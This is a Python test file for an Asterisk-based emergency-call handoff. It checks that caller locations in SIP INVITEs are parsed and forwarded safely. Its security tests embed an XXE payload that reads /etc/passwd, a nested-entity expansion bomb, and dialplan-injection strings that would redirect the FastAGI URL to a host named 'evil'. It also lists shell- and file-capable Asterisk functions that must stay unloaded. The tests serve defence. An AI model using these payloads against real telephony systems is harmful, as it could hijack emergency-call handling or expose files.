"""What a location in the INVITE becomes: for the FastAGI script, for the agent's leg, and for Asterisk itself."""

from __future__ import annotations

import socket
from datetime import UTC, datetime
from typing import Any

import pytest

from ivr.fastagi.commands import quoted
from tests.ivr.asterisk.agi_script import AgiScript
from tests.ivr.asterisk.conftest import Scene, SceneFactory
from tests.ivr.asterisk.sip_peer import Message
from transfer.handoff import geolocation_variables
from transfer.location import CallerLocation, LocationSource

pytestmark = pytest.mark.telephony

FIELDS = ("format", "location_info", "confidence", "method")
READ = [
    'SET VARIABLE TIMEOUT(absolute) "20"',
    *(f'GET FULL VARIABLE "${{GEOLOC_PROFILE({field})}}"' for field in FIELDS),
]
HEADER = "Geolocation: <cid:loc@example.com>\r\nGeolocation-Routing: yes\r\n"
CIRCLE = (
    '<gs:Circle srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>39.9087 116.4605</gml:pos>'
    '<gs:radius uom="urn:ogc:def:uom:EPSG::9001">30</gs:radius></gs:Circle>'
)


def civic(district: str) -> str:
    return (
        '<ca:civicAddress xml:lang="zh"><ca:country>CN</ca:country><ca:A1>北京市</ca:A1>'
        f"<ca:A3>{district}</ca:A3><ca:RD>建国路</ca:RD><ca:HNO>88</ca:HNO></ca:civicAddress>"
    )


def pidf(location: str, doctype: str = "", device: str = "urn:uuid:1", ident: str = "d1") -> str:
    """A PIDF-LO body part (RFC 4119, RFC 5491) with the location in it."""
    return (
        "Content-Type: application/pidf+xml\r\nContent-ID: <loc@example.com>\r\n\r\n"
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
        '<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model" '
        'xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10" xmlns:gml="http://www.opengis.net/gml" '
        'xmlns:gs="http://www.opengis.net/pidflo/1.0" xmlns:ca="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr" '
        'xmlns:con="urn:ietf:params:xml:ns:geopriv:conf" entity="pres:13800138000@example.com">'
        f'<dm:device id="{ident}"><gp:geopriv><gp:location-info>'
        f'{location}<con:confidence pdf="normal">95</con:confidence></gp:location-info>'
        "<gp:usage-rules/><gp:method>GPS</gp:method></gp:geopriv>"
        f"<dm:deviceID>{device}</dm:deviceID></dm:device></presence>"
    )


def told(
    scene: SceneFactory, part: str, header: str = HEADER, understood: CallerLocation | None = None
) -> tuple[dict[str, str], Message, Scene]:
    """What the script reads, the INVITE that the dispatcher gets, and the scene.

    `understood`: what the script has made of it and sends along, as the real one does.
    """
    sent = geolocation_variables(understood) if understood else {}
    commands = [f"SET VARIABLE {name} {quoted(value)}" for name, value in sent.items()]
    with AgiScript([*READ, *commands]) as script:
        s = scene(fastagi_port=script.port)
        s.call(extra=header, part=part)
        invite = s.police.wait_for_method("INVITE")
        lines = script.answers[0][1 : len(READ)]
    values = {
        field: line.removeprefix("200 result=1 (").removesuffix(")")
        for field, line in zip(FIELDS, lines, strict=True)
    }
    return values, invite, s


def located(**fields: Any) -> CallerLocation:
    return CallerLocation(LocationSource.NETWORK, datetime.now(UTC), **fields)


def test_a_circle(scene: SceneFactory) -> None:
    place = located(latitude=39.9087, longitude=116.4605, uncertainty_m=30, confidence_pct=95, method="GPS")
    values, invite, _ = told(scene, pidf(CIRCLE), understood=place)
    assert values == {
        "format": "GML",
        "location_info": 'shape="Circle",crs="2d",pos="39.9087 116.4605",radius="30"',
        "confidence": 'pdf="normal",value="95"',
        "method": "GPS",
    }
    assert "<cid:" in (invite.header("Geolocation") or "")
    assert "<gml:pos>39.9087000 116.4605000</gml:pos>" in invite.text
    assert ">30</gs:radius>" in invite.text
    assert ">95</con:confidence>" in invite.text
    assert ">GPS</gp:method>" in invite.text
    assert "application/pidf+xml" in invite.text
    assert "urn:uuid:1" not in invite.text


def test_a_civic_address(scene: SceneFactory) -> None:
    values, invite, _ = told(
        scene,
        pidf(civic("朝阳区")),
        understood=located(civic=(("A3", "朝阳区"), ("RD", "a,b=c (1)"), ("HNO", "88"))),
    )
    assert values["format"] == "civicAddress"
    assert values["location_info"] == 'lang="zh",country="CN",A1="北京市",A3="朝阳区",RD="建国路",HNO="88"'
    assert "&#x671D;&#x9633;&#x533A;" in invite.text
    assert ">a,b=c (1)</" in invite.text
    assert ">88</" in invite.text


def test_a_reference(scene: SceneFactory) -> None:
    uri = "https://lis.example/loc/abc"
    at = CallerLocation(LocationSource.REFERENCE, datetime.now(UTC), reference=uri)
    values, invite, _ = told(scene, "", f"Geolocation: <{uri}>\r\n", at)
    assert (values["format"], values["location_info"]) == ("URI", 'URI="https://lis.example/loc/abc"')
    assert invite.header("Geolocation") == "<https://lis.example/loc/abc>"


@pytest.mark.parametrize(
    ("part", "header"),
    [
        ("", ""),
        ("", HEADER),
        (pidf(CIRCLE), ""),
        (pidf(CIRCLE)[:-60], HEADER),
        (pidf("<gs:Circle/>"), HEADER),
    ],
    ids=["none", "header without body", "body without header", "cut off", "empty circle"],
)
def test_no_location_or_a_broken_one_is_none(scene: SceneFactory, part: str, header: str) -> None:
    values, invite, s = told(scene, part, header)
    assert "pos=" not in values["location_info"]
    assert "39.9087" not in invite.text
    assert s.instance.asterisk.alive()


def test_entities_are_not_fetched_and_files_not_read(scene: SceneFactory) -> None:
    with socket.create_server(("127.0.0.1", 0)) as lure:
        doctype = (
            '<!DOCTYPE presence [<!ENTITY f SYSTEM "file:///etc/passwd">'
            f'<!ENTITY n SYSTEM "http://127.0.0.1:{lure.getsockname()[1]}/x">]>'
        )
        values, invite, _ = told(scene, pidf(civic("&f;|&n;"), doctype))
        lure.setblocking(False)
        with pytest.raises(BlockingIOError):
            lure.accept()
    assert 'A3="|"' in values["location_info"]
    assert "root:" not in invite.text


def test_nested_entities_do_not_blow_up(scene: SceneFactory) -> None:
    nested = "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(8))
    values, _, s = told(scene, pidf(civic("&i;"), f'<!DOCTYPE presence [<!ENTITY a "xxxxxxxxxx">{nested}]>'))
    assert values["format"] == ""
    assert s.instance.asterisk.alive()


@pytest.mark.parametrize("kilobytes", [6, 50])
def test_a_huge_location_reaches_police_too(scene: SceneFactory, kilobytes: int) -> None:
    """The script reads all of it; nothing of it goes to the dispatcher."""
    text = "区" * (kilobytes * 1000 // 3)
    values, invite, s = told(scene, pidf(civic(text)))
    assert text in values["location_info"]
    assert len(invite.text) < 6000
    assert s.instance.asterisk.alive()


EVIL = "${SET(GLOBAL(FASTAGI_URL)=agi://evil:4573)}"


@pytest.mark.parametrize(
    "part",
    [
        pidf(civic("${CALLERID(num)}")),
        pidf(civic("x$[1+1]")),
        pidf(civic("'\"${STRFTIME()}")),
        pidf(civic(f"x):{EVIL}")),
        pidf(civic("x" * 5000 + EVIL)),
        pidf(civic("朝阳区"), device=EVIL),
        pidf(civic("朝阳区"), ident=EVIL),
    ],
    ids=["function", "expression", "quotes", "bracket", "long", "deviceID", "id"],
)
def test_dialplan_expressions_in_a_location_stay_behind(scene: SceneFactory, part: str) -> None:
    """Asterisk 22 evaluates ${…} of a location when it writes the agent's INVITE: the document is never passed on."""
    _, invite, s = told(scene, part)
    assert invite.header("Geolocation") is None
    assert "not registered" not in s.instance.messages()
    assert "evil" not in s.instance.rx("dialplan show globals")


def test_a_location_in_a_second_invite_cannot_do_anything_either(scene: SceneFactory) -> None:
    """A re-INVITE in the call brings another document, which Asterisk passes on without asking the dialplan."""
    with AgiScript(READ) as script:
        s = scene(fastagi_port=script.port, police_answers=180, police_ring_s=5)
        leg = s.call(extra=HEADER, part=pidf(civic("朝阳区")))
        s.police.wait_for_method("INVITE")
        sdp = f"Content-Type: application/sdp\r\n\r\n{leg.phone._sdp()}"
        part = pidf(civic(f"X${{CALLERID(num)}}{EVIL}"), device=f"Y${{CALLERID(num)}}{EVIL}")
        leg.send(
            "INVITE", HEADER, f"--b0\r\n{sdp}\r\n--b0\r\n{part}\r\n--b0--\r\n", "multipart/mixed;boundary=b0"
        )
        leg.phone.wait_for(lambda m: m.method == "200" and m.header("CSeq") == "2 INVITE")
        s.police.heard.clear()
        invite = s.police.wait_for_method("INVITE", limit_s=30)  # it rings anew every five seconds
        assert invite.header("Geolocation") is None
        assert "evil" not in s.instance.rx("dialplan show globals")
        assert "evil" not in invite.text


def test_a_reference_with_an_expression_stays_behind(scene: SceneFactory) -> None:
    _, invite, _ = told(scene, "", "Geolocation: <https://lis.example/${CALLERID(num)}>\r\n")
    assert invite.header("Geolocation") is None


def test_no_function_that_could_run_or_read_anything_is_loaded(scene: SceneFactory) -> None:
    s = scene()
    functions = s.instance.rx("core show functions")
    for name in (
        "SHELL",
        "FILE",
        "ENV",
        "CURL",
        "DB",
        "ODBC",
        "SYSINFO",
        "AST_CONFIG",
        "GLOBAL",
        "SHARED",
        "SET",
        "EXEC",
    ):
        assert f"\n{name} " not in functions
    applications = s.instance.rx("core show applications")
    for name in ("System", "TrySystem", "ExternalIVR", "Originate"):
        assert f" {name}:" not in applications
